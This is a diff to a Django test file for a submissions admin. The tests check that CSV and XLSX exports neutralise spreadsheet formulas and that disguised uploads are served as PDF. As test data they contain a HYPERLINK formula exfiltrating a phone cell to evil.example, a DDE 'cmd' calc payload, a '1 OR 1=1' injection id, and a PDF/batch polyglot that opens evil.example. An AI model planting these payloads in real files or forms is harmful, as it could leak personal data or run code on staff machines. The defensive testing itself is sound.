@@ -1,6 +1,7 @@
 import csv
 import io
 
+import openpyxl
 import pytest
 from django.contrib.auth.models import Group, Permission
 from django.core import mail
@@ -9,6 +10,7 @@ from django.urls import reverse
 
 from portal.roles import EDITOR, PUBLISHER
 from submissions.models import Message, Submission, SubmissionAttachment
+from submissions.resources import MessageResource, SubmissionResource
 from submissions.storage import PrivateStorage
 
 pytestmark = pytest.mark.django_db
@@ -153,31 +155,104 @@ def test_board_count_cache_is_cleared_when_a_message_is_published(
     assert client.get("/messages/?page=2").status_code == 200
 
 
-def test_messages_csv_has_a_bom_and_chinese_columns(superuser_client, make_message):
-    make_message(subject="入会咨询，含逗号", content="第一行\n第二行")
-    response = superuser_client.post(
-        reverse("admin:submissions_message_changelist"),
+FORMULA = '=HYPERLINK("http://evil.example/?p="&E2,"详情")'
+FORMATS = {"xlsx": 0, "csv": 1}
+
+
+def export(client, model, objects, file_format):
+    """What the export page sends for `objects` (the rows ticked in the changelist)."""
+    resource = {Message: MessageResource, Submission: SubmissionResource}[model]
+    prefix = resource.__name__.lower()
+    url = reverse(f"admin:submissions_{model._meta.model_name}_export")
+    return client.post(
+        url,
         {
-            "action": "export_csv",
-            "_selected_action": list(Message.objects.values_list("pk", flat=True)),
+            "format": FORMATS[file_format],
+            "resource": 0,
+            "export_items": [o.pk for o in objects],
+            **{f"{prefix}_{name}": "on" for name in resource.Meta.fields},
         },
     )
-    assert response["Content-Type"] == "text/csv; charset=utf-8"
+
+
+def csv_rows(response) -> list[list[str]]:
+    raw = response.content
+    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads the Chinese as UTF-8
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+
+
+def xlsx_rows(response) -> list[list]:
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    for row in sheet.iter_rows():
+        assert all(cell.data_type != "f" for cell in row)  # no formula cell at all
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_messages_export_has_chinese_columns_and_keeps_the_text(superuser_client, make_message):
+    message = make_message(subject="入会咨询，含逗号", content="第一行\n第二行")
+    response = export(superuser_client, Message, [message], "csv")
+    assert response.status_code == 200
     assert "attachment;" in response["Content-Disposition"]
-    raw = b"".join(response.streaming_content)
-    assert raw.startswith(b"\xef\xbb\xbf")
-    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    rows = csv_rows(response)
     assert rows[0][:3] == ["留言编号", "状态", "留言时间"]
+    assert rows[1][0] == message.code and rows[1][1] == "待处理"
     assert rows[1][6] == "入会咨询，含逗号" and rows[1][7] == "第一行\n第二行"
 
 
-def test_submissions_csv_export(superuser_client, attachment):
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_messages_export_neutralises_formulas(superuser_client, make_message, file_format):
+    # Opened in Excel, the subject would send the sender's phone number (E2) away.
+    message = make_message(subject=FORMULA, name="＝E2&F2", content="@SUM(A1:A9)", phone="-1+1")
+    response = export(superuser_client, Message, [message], file_format)
+    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
+    name, phone, subject, content = rows[1][3], rows[1][4], rows[1][6], rows[1][7]
+    assert subject == "'" + FORMULA
+    assert (name, phone, content) == ("'＝E2&F2", "'-1+1", "'@SUM(A1:A9)")
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_submissions_export_neutralises_formulas(superuser_client, attachment, file_format):
+    submission = attachment.submission
+    submission.title, submission.author = "+cmd|' /C calc'!A0", "\t=1+1"
+    submission.save()
+    response = export(superuser_client, Submission, [submission], file_format)
+    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
+    assert rows[0][0] == "查询码" and rows[1][0] == submission.tracking_code
+    assert rows[1][3] == "'+cmd|' /C calc'!A0" and rows[1][4] == "'\t=1+1"
+    assert str(rows[1][9]) == "1"  # attachments
+
+
+def test_export_is_offered_as_a_list_action_and_from_the_changelist(superuser_client, make_message):
+    message = make_message()
+    changelist = reverse("admin:submissions_message_changelist")
+    html = superuser_client.get(changelist).content.decode()
+    assert reverse("admin:submissions_message_export") in html
     response = superuser_client.post(
-        reverse("admin:submissions_submission_changelist"),
-        {"action": "export_csv", "_selected_action": [attachment.submission.pk]},
+        changelist, {"action": "export_admin_action", "_selected_action": [message.pk]}
     )
-    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
-    assert rows[0][0] == "查询码" and rows[1][3] == "开发区营商环境观察" and rows[1][9] == "1"
+    html = response.content.decode()
+    assert response.status_code == 200
+    assert "xlsx" in html and "csv" in html and str(message.pk) in html
+    # a forged row number is not an error page
+    forged = {
+        "format": 1,
+        "resource": 0,
+        "export_items": ["1 OR 1=1"],
+        "messageresource_code": "on",
+    }
+    response = superuser_client.post(reverse("admin:submissions_message_export"), forged)
+    assert response.status_code == 200 and "text/html" in response["Content-Type"]
+
+
+def test_staff_who_may_view_may_export_and_no_one_else(client, editor, django_user_model):
+    export_url = reverse("admin:submissions_message_export")
+    assert client.get(export_url).status_code == 302  # to the login page
+    clerk = django_user_model.objects.create_user("clerk", password="x-pass-123", is_staff=True)
+    client.force_login(clerk)
+    assert client.get(export_url).status_code == 403
+    client.force_login(editor)  # 编辑 read the queues, as before
+    assert client.get(export_url).status_code == 200
+    assert client.get(reverse("admin:submissions_submission_export")).status_code == 200
 
 
 def test_change_page_lists_attachments_with_download_links(superuser_client, attachment):
@@ -197,6 +272,30 @@ def test_staff_download_streams_the_file_under_its_original_name(
     assert response["Content-Type"] == "application/pdf"
     assert "filename*=utf-8''%E5%B9%B4%E5%BA%A6" in response["Content-Disposition"]
     assert "private" in response["Cache-Control"] and "no-store" in response["Cache-Control"]
+
+
+@pytest.mark.parametrize("extension", ["bat", "hta", "html"])
+def test_a_file_is_downloaded_under_the_extension_of_the_kind_it_was_detected_as(
+    client, superuser, submission_data, upload, extension
+):
+    # Starts like a PDF, so the form takes it; named and written to run when opened.
+    content = b"%PDF-1.7\r\n@echo off\r\nstart https://evil.example/\r\n"
+    response = client.post(
+        "/contribute/",
+        {**submission_data(), "attachments": [upload(f"投稿说明.{extension}", content)]},
+        REMOTE_ADDR="203.0.113.9",
+    )
+    assert response.status_code == 302
+    attachment = SubmissionAttachment.objects.get()
+    client.force_login(superuser)
+    download = client.get(reverse("admin:submissions_attachment_download", args=[attachment.pk]))
+    assert download.status_code == 200
+    # 投稿说明.pdf, percent-encoded as RFC 5987 asks
+    expected = "attachment; filename*=utf-8''%E6%8A%95%E7%A8%BF%E8%AF%B4%E6%98%8E.pdf"
+    assert download["Content-Disposition"] == expected
+    assert download["Content-Type"] == "application/pdf"
+    assert download["X-Content-Type-Options"] == "nosniff"
+    assert b"".join(download.streaming_content) == content
 
 
 def test_download_is_refused_to_the_public_and_to_staff_without_permission(
